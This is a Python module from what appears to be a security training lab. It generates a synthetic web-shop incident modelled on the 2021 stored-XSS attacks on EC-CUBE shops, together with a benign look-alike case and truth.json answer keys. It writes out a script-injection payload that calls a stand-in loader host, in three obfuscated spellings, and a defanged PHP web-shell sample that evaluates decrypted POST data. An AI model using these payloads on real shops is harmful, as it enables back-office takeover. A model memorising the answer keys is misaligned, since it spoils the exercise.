"""The web shop of April 2021: script in orders takes over the back office of whoever opens them.

Source: mission article 7 (Water Pamola, Trend Micro, April 2021); JPCERT/CC, attacks on EC-CUBE shops, July 2021;
CVE-2021-20717.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, replace
from datetime import date, timedelta
from types import MappingProxyType
from typing import Any

from sekisho.app.lab import shop
from sekisho.app.lab.case import TRUTH_SCHEMA
from sekisho.app.lab.corp import moment
from sekisho.app.lab.mail import write_mail
from sekisho.app.lab.planted import Planted

DAY = date(2021, 4, 28)
ATTACKER = "203.0.113.68"
"""Nobody else in the lab comes from here: one address in two attacks within days would be one intruder."""
LOADER = "ajax.googleoapis.example"
_TAG = f'"><script src=//{LOADER}/j.js></script>'
SPELLINGS = (
    "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else "\u3000" for char in _TAG),
    "".join(f"&#{ord(char)}" if char in '<>"/' else char for char in _TAG),
    "".join(f"%u{ord(char):04x}" if char in '<>"/=' else char for char in _TAG),
)
"""The same script in full-width letters, entities without semicolons, and escapes."""
DAY_OF_ORDERS = 60
"""Orders of a day or so: the twin's go on after those of the attack, as in one shop no number comes twice."""
FOLDER = "/upload/save_image"
SHELL = b"""<?php exit; // laboratory sample: ends here, whoever asks
$k = "-----BEGIN PUBLIC KEY-----\\nsample\\n-----END PUBLIC KEY-----";
$c = @$_POST['cookie'];
openssl_public_decrypt(base64_decode($c), $d, $k);
$f = create_function('', $d);
$f();
"""
PAGE = b"""<?php
// EC shop: front controller
require __DIR__ . '/vendor/autoload.php';
$kernel = new Kernel('prod', false);
$request = Request::createFromGlobals();
$response = $kernel->handle($request);
$response->send();
if (isset($_POST['mode']) && $_POST['mode'] === 'upload') {
    move_uploaded_file($_FILES['image']['tmp_name'], __DIR__ . '/upload/save_image/' . basename($name) . '.jpg');
}
"""
README = """{title}

This folder is synthetic. Sekisho's lab wrote it; it records no real incident, and its people, companies, machines and
addresses do not exist.

It is inert: every address is reserved for documentation (RFC 2606 names, RFC 5737 blocks), the script in the orders
names a host that does not exist, and the PHP file ends before it does anything. Keep it off web servers.

evidence/shop/        the shop's table of orders (Shift_JIS)
evidence/web/         access log of the web server, reports of its content security policy
evidence/mailboxes/   mails about orders
evidence/html/        files of the shop
truth.json            what happened, for checking a result against

合成データです。実在の事件・人物・組織・機器とは関係がなく、無害です（宛先はすべて文書用に予約されたもの）。
"""


@dataclass(frozen=True, slots=True)
class ShopCase:
    """One case of a shop: the same bytes each time it is asked for."""

    name: str
    title_en: str
    title_ja: str
    day: date
    tell: Callable[[ShopCase], tuple[dict[str, bytes], dict[str, Any]]]

    def files(self) -> dict[str, bytes]:
        """Give every file by its path below the case's folder: README.txt, truth.json, evidence/..."""
        return self.told()[0]

    def told(self) -> tuple[dict[str, bytes], tuple[Planted, ...]]:
        """Give the files and the planted steps of one telling."""
        evidence, truth = self.tell(self)
        title = f"{self.name}: {self.title_en} / {self.title_ja}"
        text = json.dumps(truth, ensure_ascii=False, indent=2) + "\n"
        head = {"README.txt": README.format(title=title).encode(), "truth.json": text.encode()}
        files = head | {f"evidence/{path}": data for path, data in sorted(evidence.items())}
        return files, tuple(_steps(truth["planted"])) if truth["verdict"] != "clean" else ()

    @property
    def truth(self) -> dict[str, Any]:
        """What a right result says: ``schema case title synthetic verdict planted steps``.

        ``planted`` has, by what was planted, the file and the numbers of its lines (none for a whole file).
        """
        return self.tell(self)[1]


def _steps(planted: dict[str, Any]) -> Iterator[Planted]:
    """Give what a truth says was planted, record by record."""
    for word, lines in {"row": planted["orders"], **planted["requests"], "report": planted["report"]}.items():
        for source, numbers in lines.items():
            yield from (Planted(word, "server", source, str(number)) for number in numbers)
    yield from (Planted("mail", "mail", path, "") for path in planted["mails"])
    yield Planted("file", "server", planted["shell"], "")


def _attack(case: ShopCase) -> tuple[dict[str, bytes], dict[str, Any]]:
    listed = shop.orders(case.name, case.day)
    at = moment(case.day, "09:40:11")
    hits = shop.visits(case.name, case.day)
    planted: list[shop.Order] = []
    for number, spelling in enumerate(SPELLINGS):
        order = replace(listed[-1], number=listed[-1].number + 1, at=at + timedelta(minutes=3 * number), company="")
        if number == 1:
            order = replace(order, company=f"(株)青空{spelling}", rest="4-5-6")
        else:
            order = replace(order, rest=f"1-2-{number + 3}{spelling}")
        planted.append(order)
        listed.append(order)
        hits += shop.buys(order.at - timedelta(seconds=44), ATTACKER, "order")
    opened = moment(case.day, "11:02:10")
    first = planted[0]
    hits += [
        shop.Hit(opened, shop.OFFICE, "GET", f"{shop.ADMIN}/order/{first.number}/edit", 200, mark="view"),
        shop.Hit(opened + timedelta(seconds=3), shop.OFFICE, "GET", f"{shop.ADMIN}/content/file_manager", 200),
        shop.Hit(
            opened + timedelta(seconds=4), shop.OFFICE, "POST", f"{shop.ADMIN}/content/file_manager", 302, mark="upload"
        ),
        shop.Hit(opened + timedelta(seconds=21), ATTACKER, "POST", f"{FOLDER}/ec_ver.php", 200, mark="shell"),
    ]
    page = f"https://{shop.SHOP}{shop.ADMIN}/order/{first.number}/edit"
    report = shop.report(opened + timedelta(seconds=1), page, f"https://{LOADER}/j.js", "script-src-elem", shop.OFFICE)
    files, marked = _written(case, listed, hits, [*shop.reports(case.name, case.day), report], planted)
    files[f"html{FOLDER}/ec_ver.php"] = SHELL
    lines = {word: {"evidence/web/access.log": numbers} for word, numbers in marked.items()}
    rows = {"evidence/shop/orders.csv": [len(listed) - len(planted) + 2 + at for at in range(len(planted))]}
    reports = files["web/csp.jsonl"].decode().split("\n")
    told = {
        "orders": rows,
        "requests": lines,
        "report": {"evidence/web/csp.jsonl": [at for at, line in enumerate(reports, 1) if LOADER in line]},
        "mails": [f"evidence/{_path(case, order)}" for order in planted],
        "shell": f"evidence/html{FOLDER}/ec_ver.php",
    }
    steps = [
        ("server", f"{ATTACKER} places three orders with script in address and company, each hidden in another way"),
        ("mail", "the shop's mails about these orders carry the script as well"),
        (
            "server",
            f"{shop.OFFICE} opens order {first.number} in the back office; its browser asks for a script of {LOADER}",
        ),
        ("server", "four seconds later a file is sent to the file manager from the same address"),
        ("server", f"{ATTACKER} calls the file"),
    ]
    return files, _truth(case, "malicious", told, steps)


def _benign(case: ShopCase) -> tuple[dict[str, bytes], dict[str, Any]]:
    listed = shop.orders(case.name, case.day)
    hits = shop.visits(case.name, case.day)
    places = (
        ("", '1-2-3 ＜新館＞ "桜" <本社> 5F', "<b>急ぎ</b> <br> で"),
        ("JavaScript研究会 & <式>の会", "4-5-6", "書名「onclick=入門」; 宛名は <taro@customer.example>"),
    )
    planted = []
    for number, (company, rest, remark) in enumerate(places):
        order = replace(listed[-1], number=DAY_OF_ORDERS + shop.FIRST_ORDER + len(listed))
        order = replace(order, at=moment(case.day, f"09:4{number}:11"))
        order = replace(order, company=company, rest=rest, remark=remark)
        planted.append(order)
        listed.append(order)
    opened = moment(case.day, "11:02:10")
    hits += [
        shop.Hit(opened, shop.OFFICE, "GET", f"{shop.ADMIN}/order/{planted[0].number}/edit", 200, mark="view"),
        shop.Hit(
            opened + timedelta(minutes=61),
            shop.OFFICE,
            "POST",
            f"{shop.ADMIN}/content/file_manager",
            302,
            mark="upload",
        ),
    ]
    files, marked = _written(case, listed, hits, shop.reports(case.name, case.day), planted)
    told = {"requests": {word: {"evidence/web/access.log": numbers} for word, numbers in marked.items()}}
    steps = [
        ("server", "customers write brackets, quotes and tags of plain text into their orders"),
        ("server", "an hour after the staff opened one of them, it changes a file of the shop"),
    ]
    return files, _truth(case, "clean", told, steps)


def _written(
    case: ShopCase,
    listed: list[shop.Order],
    hits: list[shop.Hit],
    reports: list[dict[str, object]],
    planted: list[shop.Order],
) -> tuple[dict[str, bytes], dict[str, list[int]]]:
    log, marked = shop.log(hits)
    mails = [*listed[: shop.MAILS], *planted]
    box = f"staff@{shop.SHOP}"
    files = {_path(case, order): write_mail(shop.order_mail(case.name, order), box) for order in mails}
    files |= {
        "shop/orders.csv": shop.table(listed),
        "web/access.log": log,
        "web/csp.jsonl": shop.report_lines(reports),
        "html/index.php": PAGE,
    }
    return files, marked


def _path(case: ShopCase, order: shop.Order) -> str:
    return f"mailboxes/staff@{shop.SHOP}/{order.at:%Y%m%d-%H%M%S}.{order.number}.eml"


def _truth(case: ShopCase, verdict: str, planted: dict[str, Any], steps: list[tuple[str, str]]) -> dict[str, Any]:
    return {
        "schema": TRUTH_SCHEMA,
        "case": case.name,
        "title": {"en": case.title_en, "ja": case.title_ja},
        "synthetic": True,
        "verdict": verdict,
        "planted": planted,
        "steps": [{"layer": layer, "what": what} for layer, what in steps],
    }


_ALL = (
    ShopCase(
        "shop-xss",
        "script in a web shop's orders that takes over the back office",
        "注文に仕込まれたスクリプトによる管理画面の乗っ取り",
        DAY,
        _attack,
    ),
    ShopCase(
        "shop-xss-benign",
        "web shop whose customers write brackets and tags into orders",
        "注文に括弧やタグを書く顧客がいる通販サイト",
        DAY,
        _benign,
    ),
)
SHOP_CASES: Mapping[str, ShopCase] = MappingProxyType({case.name: case for case in _ALL})
